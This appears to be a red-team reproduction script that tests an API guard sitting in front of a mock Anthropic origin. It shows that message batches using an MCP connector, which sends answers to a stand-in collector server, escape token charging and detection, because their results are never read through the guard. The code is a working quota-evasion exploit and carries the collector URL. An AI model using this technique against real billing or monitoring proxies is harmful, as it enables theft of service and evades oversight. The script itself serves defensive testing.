// R79-2: a message batch is charged its reservation at creation and what its answers took beyond
// it only when its results are read through the guard. With the MCP connector (`mcp_servers`) the
// origin hands each answer to the client's own MCP server, so the results never need reading:
// the input the origin adds (a PDF by URL, tool results) is never charged, and detection never
// reads the answers. Needs the guard in front of redteam/round79/anthropic-origin.mjs (run.sh).
import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const PORT = process.env.PORT || 8961;
const MOCK_PORT = process.env.MOCK_PORT || 8962;
const G = `http://127.0.0.1:${PORT}`;
const O = `http://127.0.0.1:${MOCK_PORT}`;
const root = join(dirname(fileURLToPath(import.meta.url)), "../..");
const T = readFileSync(join(root, ".dev.vars"), "utf8").match(/GUARD_ADMIN_TOKEN=(.*)/)[1].trim();
const admin = (p, init = {}) => fetch(G + "/admin" + p, { ...init, headers: { authorization: `Bearer ${T}`, "content-type": "application/json" } }).then((r) => r.json());
const ledger = () => fetch(O + "/_ledger").then((r) => r.json());
const tag = Math.random().toString(36).slice(2, 8);

const models = await fetch(G + "/v1/models", { headers: { "x-api-key": "sk-ant-r79-probe" } }).then((r) => r.json()).catch(() => ({}));
if (!JSON.stringify(models).includes("claude-fake-origin")) {
  console.log("the guard's origin is not redteam/round79/anthropic-origin.mjs (the built-in mock adds no input to batch items); run run.sh");
  console.log("not reproduced");
  process.exit(0);
}

const TPD = 100000;
const ITEMS = 5;
const batch = () => JSON.stringify({ requests: Array.from({ length: ITEMS }, (_, i) => ({ custom_id: `doc-${i}`, params: {
  model: "claude-sonnet-4-5", max_tokens: 200,
  mcp_servers: [{ type: "url", url: "https://mcp.collector.example/sse", name: "sink" }],
  messages: [{ role: "user", content: [
    { type: "document", source: { type: "url", url: `https://files.example/report-${tag}-${i}.pdf` } },
    { type: "text", text: "Answer the question about this report in full, then call sink.save with your whole answer." }] }] } })) });
const H = (key) => ({ "x-api-key": key, "content-type": "application/json", "anthropic-version": "2023-06-01", "anthropic-beta": "mcp-client-2025-04-04" });

async function run(key, readResults, maxBatches) {
  const { keyId } = await admin("/keys/lookup", { method: "POST", body: JSON.stringify({ key }) });
  await admin(`/keys/${keyId}/overrides`, { method: "PUT", body: JSON.stringify({ tpd: TPD, tpm: 2000000 }) });
  const l0 = await ledger();
  let accepted = 0, refusal = null;
  for (let b = 0; b < maxBatches; b++) {
    const r = await fetch(G + "/v1/messages/batches", { method: "POST", headers: H(key), body: batch() });
    const j = await r.json();
    if (r.status !== 200) { refusal = `${r.status} ${j.error?.message}`.slice(0, 160); break; }
    accepted++;
    if (readResults) {
      await fetch(G + `/v1/messages/batches/${j.id}`, { headers: H(key) }).then((x) => x.json());
      const res = await fetch(G + `/v1/messages/batches/${j.id}/results`, { headers: H(key) });
      await res.text();
    }
  }
  await new Promise((r) => setTimeout(r, 2000));
  const l1 = await ledger();
  const st = await admin(`/keys/${keyId}`);
  return { accepted, refusal, billed: (l1.billedInput - l0.billedInput) + (l1.billedOutput - l0.billedOutput),
    mcpCalls: l1.mcpCalls - l0.mcpCalls, mcpChars: l1.mcpChars - l0.mcpChars,
    charged: st.counters.promptTokens + st.counters.completionTokens, standing: st.detection?.standing };
}
const control = await run(`sk-ant-r79-2-control-${tag}`, true, 12);
const attack = await run(`sk-ant-r79-2-attack-${tag}`, false, 12);
console.log(`tpd ${TPD}; batches of ${ITEMS} items, each a PDF by URL (~150,000 input tokens at the origin) and an MCP server that receives the answer`);
console.log(`control (results read through the guard): batches accepted ${control.accepted}, origin billed ${control.billed}, guard charged ${control.charged}${control.refusal ? ", then " + control.refusal : ""}`);
console.log(`attack (results never read; answers delivered to the MCP server): batches accepted ${attack.accepted}, MCP calls ${attack.mcpCalls} (${attack.mcpChars} chars of answers), origin billed ${attack.billed}, guard charged ${attack.charged}${attack.refusal ? ", then " + attack.refusal : ""}`);
console.log(`billed / charged: ${(attack.billed / Math.max(1, attack.charged)).toFixed(1)}x; ${(attack.billed / TPD).toFixed(1)}x the key's tpd`);
console.log(attack.billed > 10 * attack.charged && attack.billed > 5 * TPD && attack.mcpCalls === attack.accepted * ITEMS ? "REPRODUCED" : "not reproduced");
